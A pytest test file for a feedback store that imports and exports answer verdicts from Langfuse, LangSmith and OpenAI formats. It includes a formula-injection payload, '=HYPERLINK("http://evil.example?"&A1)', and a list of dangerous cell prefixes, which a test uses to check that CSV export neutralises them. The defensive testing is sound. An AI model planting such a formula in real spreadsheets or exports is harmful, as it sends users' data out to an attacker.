"""Verdicts come in from other programs' files, and go out into files that do no harm."""

from __future__ import annotations

import csv
import gzip
import json
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import ragtune as rt
from ragtune.feedback.formulas import plain, protected

DEEP = "How deep is Lake Sorrel?"


@pytest.fixture
def store(tmp_path: Path) -> rt.FeedbackStore:
    return rt.FeedbackStore(tmp_path / "feedback.sqlite3")


def lines(path: Path, rows: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return path


def said(store: rt.FeedbackStore) -> list[tuple[object, ...]]:
    return [(row.question, row.answer, row.verdict, row.correction, row.by) for row in store.rows()]


HOSTILE = '=HYPERLINK("http://evil.example?"&A1)'


@pytest.mark.parametrize("name", ["said.jsonl", "said.csv"])
def test_what_goes_out_comes_in_again(store: rt.FeedbackStore, tmp_path: Path, name: str) -> None:
    """Texts with quotes, line breaks and formulas, passages, empty fields: all of it is the same as before."""
    store.add('12 m\n"quoted", too', -1, question=DEEP, correction="-83", comment=HOSTILE, by="@anna", rating=0.5)
    store.add("'=x", 1, question=DEEP, passages=["one", "=two"], model="ft:x", system="Be brief.", label="ok")
    assert store.export(tmp_path / name) == 2
    again = rt.FeedbackStore(tmp_path / "again.sqlite3")
    found = again.import_file(tmp_path / name)
    assert (found.shape, found.answers, found.verdicts, found.passed_over) == ("ragtune", 2, 2, {})
    for one, other in zip(store.rows(), again.rows(), strict=True):
        assert {**vars(one), "created": None} == {**vars(other), "created": None}
    again.import_file(tmp_path / name)
    assert len(again) == 2


def test_no_cell_of_a_csv_is_a_formula(store: rt.FeedbackStore, tmp_path: Path) -> None:
    for number, text in enumerate([HOSTILE, "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＠A1"]):
        store.add(text, -1, question=f"Which {number}?", comment=text, correction=text, by=text)
    store.export(tmp_path / "said.csv")
    with (tmp_path / "said.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.DictReader(file) for name, cell in row.items() if name != "verdict"]
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))]


@given(st.text(alphabet="'=+-@\t\r\n＝x", max_size=6))
def test_the_quote_before_a_formula_comes_off_again(text: str) -> None:
    assert plain(protected(text)) == text


def test_an_export_needs_a_name_that_says_how_it_is_written(store: rt.FeedbackStore, tmp_path: Path) -> None:
    with pytest.raises(rt.FeedbackError, match=r"must end in \.jsonl or \.csv"):
        store.export(tmp_path / "said.txt")
    with pytest.raises(rt.FeedbackError, match="cannot be written"):
        store.export(tmp_path / "none" / "said.csv")


OBSERVATION = {
    "id": "obs-1",
    "trace_id": "tr-1",
    "type": "GENERATION",
    "input": json.dumps([{"role": "system", "content": "Be brief."}, {"role": "user", "content": DEEP}]),
    "output": json.dumps({"role": "assistant", "content": "12 metres"}),
    "provided_model_name": "gpt-4o-mini",
    "user_id": "cem",
}


def score(**changes: object) -> dict[str, object]:
    plain_score = {
        "id": "s",
        "trace_id": "tr-1",
        "observation_id": "obs-1",
        "name": "correct",
        "value": 0,
        "data_type": "BOOLEAN",
        "source": "ANNOTATION",
        "comment": None,
        "string_value": None,
    }
    return {**plain_score, **changes}


def test_langfuse_observations_and_their_scores(store: rt.FeedbackStore, tmp_path: Path) -> None:
    """The answers first; each score finds its own, by observation or by trace; a judge's word is no person's."""
    tool = {**OBSERVATION, "id": "obs-2", "type": "TOOL", "trace_id": "tr-1"}
    found = store.import_file(lines(tmp_path / "observations.jsonl", [OBSERVATION, tool]))
    assert (found.shape, found.answers, found.verdicts) == ("langfuse", 1, 0)
    assert list(found.passed_over.values()) == [1]
    scores = [
        score(author_user_id="anna"),
        score(author_user_id="ben", observation_id=None, name="user-feedback", data_type="NUMERIC", value=1),
        score(author_user_id="cem", data_type="CORRECTION", name="output", string_value="83 metres"),
        score(author_user_id="dora", data_type="CATEGORICAL", string_value="too long", value=2),
        score(author_user_id="emil", data_type="NUMERIC", value=0.4, comment="hm"),
        score(author_user_id="fay", data_type="TEXT", string_value="see the chart", value=0),
        score(source="EVAL"),
        score(trace_id="tr-9"),
        score(trace_id=None),
    ]
    found = store.import_file(lines(tmp_path / "scores.jsonl", scores))
    assert (found.answers, found.verdicts, sum(found.passed_over.values())) == (0, 6, 3)
    rows = {row.by: row for row in store.rows()}
    assert (rows["anna"].verdict, rows["ben"].verdict, rows["cem"].correction) == (-1, 1, "83 metres")
    assert (rows["dora"].label, rows["emil"].rating, rows["fay"].comment) == ("too long", 0.4, "see the chart")
    assert {(row.question, row.answer, row.system, row.model, row.asked_by) for row in rows.values()} == {
        (DEEP, "12 metres", "Be brief.", "gpt-4o-mini", "cem")
    }


@pytest.mark.parametrize(("value", "verdict"), [(True, 1), (False, -1), ("True", 1), ("0", -1)])
def test_langfuse_truth_values_are_thumbs(store: rt.FeedbackStore, tmp_path: Path, value: object, verdict: int) -> None:
    """Its own exports write 1 and 0, what people make of them true and false."""
    store.import_file(lines(tmp_path / "observations.jsonl", [OBSERVATION]))
    store.import_file(lines(tmp_path / "scores.jsonl", [score(value=value)]))
    assert [row.verdict for row in store.rows()] == [verdict]


def test_a_thumb_of_a_column_with_gaps_is_read(store: rt.FeedbackStore, tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text("question,answer,verdict\nQ?,A,1.0\nR?,B,\nS?,C,-1.0\n", encoding="utf-8")
    assert store.import_file(tmp_path / "a.csv").verdicts == 2
    assert [row.verdict for row in store.rows()] == [1, -1]


def test_langfuse_traces_of_the_api_come_in_camel_case(store: rt.FeedbackStore, tmp_path: Path) -> None:
    trace = {
        "id": "tr-1",
        "timestamp": "2026-11-26",
        "input": {"question": DEEP},
        "output": "12 metres",
        "userId": "cem",
        "scores": [{"name": "output", "dataType": "CORRECTION", "value": "83 metres", "source": "ANNOTATION"}],
    }
    (tmp_path / "traces.json").write_text(json.dumps([trace], indent=2), encoding="utf-8")
    store.import_file(tmp_path / "traces.json")
    assert said(store) == [(DEEP, "12 metres", None, "83 metres", None)]


def test_a_score_about_a_trace_with_several_answers_is_not_guessed(store: rt.FeedbackStore, tmp_path: Path) -> None:
    answers = [OBSERVATION, {**OBSERVATION, "id": "obs-2", "output": "13 metres"}]
    store.import_file(lines(tmp_path / "observations.jsonl", answers))
    with pytest.raises(rt.FeedbackError, match="whom it means is not guessed"):
        store.import_file(lines(tmp_path / "scores.jsonl", [score(observation_id=None)]))
    assert len(store) == 0


RUN = {
    "id": "run-1",
    "run_type": "llm",
    "inputs": {"messages": [[{"id": ["langchain", "HumanMessage"], "kwargs": {"content": DEEP}}]]},
    "outputs": {"generations": [[{"text": "12 metres", "message": {"kwargs": {"content": "12 metres"}}}]]},
    "extra": {"metadata": {"ls_model_name": "gpt-4o-mini"}},
}


def test_langsmith_runs_and_their_feedback(store: rt.FeedbackStore, tmp_path: Path) -> None:
    child = {**RUN, "id": "run-2", "run_type": "tool", "parent_run_id": "run-1"}
    assert store.import_file(lines(tmp_path / "runs.jsonl", [RUN, child])).answers == 1
    given: list[dict[str, Any]] = [
        {"run_id": "run-1", "key": "user_score", "score": 0, "feedback_source": {"type": "app", "user_id": "anna"}},
        {"run_id": "run-1", "key": "quality", "score": 0.7, "comment": "hm", "correction": {"output": "83 metres"}},
        {"run_id": "run-1", "key": "helpful", "score": 1, "feedback_source": {"type": "model"}},
        {"run_id": "run-1", "key": "helpful", "score": None},
    ]
    found = store.import_file(lines(tmp_path / "feedback.jsonl", given))
    assert (found.shape, found.verdicts, sum(found.passed_over.values())) == ("langsmith", 2, 2)
    assert said(store) == [(DEEP, "12 metres", -1, None, "anna"), (DEEP, "12 metres", None, "83 metres", None)]
    assert {row.model for row in store.rows()} == {"gpt-4o-mini"}


STORED = {
    "object": "chat.completion",
    "id": "chatcmpl-1",
    "model": "gpt-5.4",
    "choices": [{"index": 0, "message": {"role": "assistant", "content": "12 metres"}, "finish_reason": "stop"}],
    "metadata": {"verdict": "-1", "by": "anna"},
}
ASKED = [{"id": "chatcmpl-1-0", "role": "user", "content": DEEP, "name": None}]


def test_openai_completions_with_their_messages(store: rt.FeedbackStore, tmp_path: Path) -> None:
    """As a page of the list, over several lines; without its messages a completion tells no question."""
    page = {"object": "list", "data": [{**STORED, "messages": ASKED}], "has_more": False}
    (tmp_path / "page.json").write_text(json.dumps(page, indent=1), encoding="utf-8")
    assert store.import_file(tmp_path / "page.json").shape == "openai"
    assert said(store) == [(DEEP, "12 metres", -1, None, "anna")]
    with pytest.raises(rt.FeedbackError, match=r"line 1: a stored completion without its messages.*messages\.list"):
        store.import_file(lines(tmp_path / "bare.jsonl", [STORED]))


def test_a_content_in_parts_is_read_as_their_text(store: rt.FeedbackStore, tmp_path: Path) -> None:
    parts = [{"type": "text", "text": "How deep is "}, {"type": "text", "text": DEEP.removeprefix("How deep is ")}]
    messages = [{"role": "user", "content": parts}, {"role": "assistant", "content": ["12 ", "metres"]}]
    store.import_file(lines(tmp_path / "talks.jsonl", [{"messages": messages, "verdict": 1}]))
    assert said(store) == [(DEEP, "12 metres", 1, None, None)]


def test_conversations_with_verdicts_beside_them(store: rt.FeedbackStore, tmp_path: Path) -> None:
    messages = [{"role": "user", "content": DEEP}, {"role": "assistant", "content": "12 metres"}]
    path = tmp_path / "talks.jsonl.gz"
    path.write_bytes(gzip.compress(json.dumps({"messages": messages, "correction": "83 metres"}).encode()))
    assert store.import_file(path).shape == "messages"
    assert said(store) == [(DEEP, "12 metres", None, "83 metres", None)]


def planets(change: Any) -> list[dict[str, Any]]:
    """One row each for two talks that end alike."""
    asked = "How hot is it?"
    return [
        change(
            planet,
            [
                {"role": "system", "content": "Be brief."},
                {"role": "user", "content": f"Tell me of {planet}."},
                {"role": "assistant", "content": f"{planet} is a planet."},
                {"role": "user", "content": asked},
            ],
            right,
        )
        for planet, right in (("Mars", "-60"), ("Venus", "460"))
    ]


WARM = {"role": "assistant", "content": "warm"}


@pytest.mark.parametrize(
    "change",
    [
        lambda planet, talk, right: {"messages": [*talk, WARM], "correction": right, "by": "anna"},
        lambda planet, talk, right: {
            **STORED,
            "id": planet,
            "choices": [{"index": 0, "message": WARM}],
            "messages": talk,
            "metadata": {"correction": right, "by": "anna"},
        },
        lambda planet, talk, right: {
            **OBSERVATION,
            "id": planet,
            "trace_id": planet,
            "output": WARM,
            "input": {"messages": talk},
            "scores": [
                score(trace_id=planet, observation_id=planet, data_type="CORRECTION", string_value=right, value=0)
            ],
        },
        lambda planet, talk, right: {
            **RUN,
            "id": planet,
            "inputs": {"messages": [talk]},
            "outputs": {"content": "warm"},
            "feedback": [{"key": "user_score", "score": 1, "correction": {"a": right}}],
        },
        lambda planet, talk, right: {
            **RUN,
            "id": planet,
            "outputs": {"content": "warm"},
            "inputs": {"input": talk[-1]["content"], "chat_history": talk[:-1]},
            "feedback": [{"key": "user_score", "score": 1, "correction": {"a": right}}],
        },
    ],
    ids=["messages", "openai", "langfuse", "langsmith", "chat_history"],
)
def test_a_talk_is_kept_with_the_answer_that_ends_it(store: rt.FeedbackStore, tmp_path: Path, change: Any) -> None:
    found = store.import_file(lines(tmp_path / "said.jsonl", planets(change)))
    assert (found.answers, found.verdicts) == (2, 2)
    assert [(row.question, row.answer, row.system, row.history, row.correction) for row in store.rows()] == [
        (
            "How hot is it?",
            "warm",
            "Be brief.",
            (
                {"role": "user", "content": f"Tell me of {planet}."},
                {"role": "assistant", "content": f"{planet} is a planet."},
            ),
            right,
        )
        for planet, right in (("Mars", "-60"), ("Venus", "460"))
    ]
    for name in ("out.jsonl", "out.csv"):
        store.export(tmp_path / name)
        again = rt.FeedbackStore(tmp_path / f"{name}.sqlite3")
        again.import_file(tmp_path / name)
        assert [row.history for row in again.rows()] == [row.history for row in store.rows()]


def test_a_talk_that_is_not_all_text_is_passed_over_by_name(store: rt.FeedbackStore, tmp_path: Path) -> None:
    called = {"role": "assistant", "content": None, "tool_calls": [{"id": "1", "type": "function"}]}
    told = {"role": "tool", "content": "7", "tool_call_id": "1"}
    picture = [{"type": "text", "text": "What is it?"}, {"type": "image_url", "image_url": {"url": "x"}}]
    asked = {"role": "user", "content": DEEP}
    talks = [[asked, WARM], [asked, called, told, WARM], [{"role": "user", "content": picture}, WARM]]
    found = store.import_file(lines(tmp_path / "talks.jsonl", [{"messages": talk, "verdict": 1} for talk in talks]))
    assert (found.answers, list(found.passed_over.values())) == (1, [2])
    assert "a tool call, a picture" in str(found)
    with pytest.raises(rt.FeedbackError, match="line 1: messages: the last one must be the assistant's"):
        store.import_file(lines(tmp_path / "open.jsonl", [{"messages": [asked, WARM, asked], "verdict": 1}]))


@pytest.mark.parametrize(
    ("name", "text", "words"),
    [
        (
            "a.jsonl",
            '{"quest": "?"}\n',
            r"line 1: a row with quest is of no known shape; known are\n  ragtune: question",
        ),
        (
            "a.jsonl",
            '{"question": "Q?", "answer": "A"}\n\n{"question": "Q?"}\n',
            "line 3: is no row of the shape ragtune",
        ),
        ("a.jsonl", '{"question": "Q?", "answer": "A"}\n{"question', r"line 2: is no JSON"),
        ("a.jsonl", '{"question": "Q?", "answer": "A"}\n7\n', r"line 2: 7 is no row"),
        ("a.jsonl", '{"question": "Q?", "answer": "A", "verdict": 3}\n', r"line 1: verdict: 3 must be 1 for good"),
        ("a.jsonl", '{"question": "Q?", "answer": "A", "verdit": 1}\n', r"line 1: 'verdit' is no column"),
        ("a.json", '[{"question": "Q?", "answer": "A"},\n {"question": "Q?", "answ', r"line 2: the list is cut off"),
        ("a.csv", "question,answer,verdict\nQ?,A,up\n", "line 2: verdict: 'up' is no number; a thumb is 1 or -1"),
        ("a.csv", "question,answer\nQ?,A,1\n", "line 2: has another number of fields"),
        ("a.csv", 'question,answer\n"Q?,A\n', "is not CSV"),
        ("a.csv", "question,answer,question\nQ?,A,R?\n", "the columns 1 and 3 are both called 'question'; rename"),
        ("a.jsonl", "", "holds no row"),
        ("a.parquet", "", r"\.parquet is not read; export JSON lines"),
        ("none.jsonl", None, "cannot be read"),
    ],
)
def test_a_file_that_cannot_be_kept_leaves_nothing_behind(
    store: rt.FeedbackStore, tmp_path: Path, name: str, text: str | None, words: str
) -> None:
    if text is not None:
        (tmp_path / name).write_text(text, encoding="utf-8")
    with pytest.raises(rt.FeedbackError, match=words):
        store.import_file(tmp_path / name)
    assert len(store.unjudged()) == len(store) == 0


NESTED = {
    "a list": "{deep}",
    "a row": '{{"question": "Q?", "answer": "A", "passages": {deep}}}',
    "a row in a list": '[{{"question": "Q?", "answer": "A", "comment": {deep}}}]',
    "an object over lines": '{{"object": "list",\n "data": {deep}}}',
    "a cell": '{{"question": "Q?", "answer": "A", "passages": "{deep}"}}',
    "an answer in answers": '{{"id": "1", "run_type": "llm", "inputs": "Q?", "outputs": {objects}}}',
}


@pytest.mark.parametrize("depth", [600, 985, 1_000, 50_000])
@pytest.mark.parametrize("text", NESTED.values(), ids=NESTED)
def test_what_is_nested_too_deeply_is_told_and_nothing_is_kept(
    store: rt.FeedbackStore, tmp_path: Path, text: str, depth: int
) -> None:
    objects = '{"kwargs": ' * depth + "1" + "}" * depth
    (tmp_path / "a.json").write_text(text.format(deep="[" * depth + "]" * depth, objects=objects), encoding="utf-8")
    with pytest.raises(rt.FeedbackError, match=r"a\.json"):
        store.import_file(tmp_path / "a.json")
    assert len(store.unjudged()) == len(store) == 0


def test_a_file_that_is_not_utf_8_says_so(store: rt.FeedbackStore, tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_bytes("question,answer\nGrün?,ja\n".encode("cp1252"))
    with pytest.raises(rt.FeedbackError, match="is not UTF-8"):
        store.import_file(tmp_path / "a.csv")


@pytest.mark.parametrize(
    "damage",
    [lambda packed: packed[:-20], lambda packed: packed[:40] + b"\0" * 40 + packed[80:], lambda _: b"\x1f\x8b"],
)
def test_packed_rows_that_are_damaged_say_so(store: rt.FeedbackStore, tmp_path: Path, damage: Any) -> None:
    path = tmp_path / "said.jsonl.gz"
    rows = "".join(json.dumps({"question": f"{n * 7919}?", "answer": str(n * 104729)}) + "\n" for n in range(50))
    path.write_bytes(damage(gzip.compress(rows.encode())))
    with pytest.raises(rt.FeedbackError, match=r"said\.jsonl\.gz: the packed data is damaged: .*; get the file again"):
        store.import_file(path)
    assert len(store.unjudged()) == 0


def test_a_shape_can_be_named(store: rt.FeedbackStore, tmp_path: Path) -> None:
    path = lines(tmp_path / "a.jsonl", [{"question": "Q?", "answer": "A"}])
    with pytest.raises(rt.FeedbackError, match="shape='mlflow' is not one of ragtune, langsmith"):
        store.import_file(path, shape="mlflow")
    with pytest.raises(rt.FeedbackError, match="line 1: is no row of the shape langfuse, which holds id, input"):
        store.import_file(path, shape="langfuse")


@pytest.mark.slow
@pytest.mark.parametrize("ending", ["jsonl", "json", "csv"])
def test_a_large_file_is_never_held_whole(store: rt.FeedbackStore, tmp_path: Path, ending: str) -> None:
    rows = [{"question": f"Which is number {n}?", "answer": "x" * 4_000, "verdict": 1} for n in range(2_000)]
    path = tmp_path / f"large.{ending}"
    if ending == "csv":
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    else:
        between, around = ("\n", "{}") if ending == "jsonl" else (",\n", "[{}]")
        path.write_text(around.replace("{}", between.join(map(json.dumps, rows))), encoding="utf-8")
    tracemalloc.start()
    try:
        assert store.import_file(path).verdicts == 2_000
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert most < 3_000_000 < path.stat().st_size
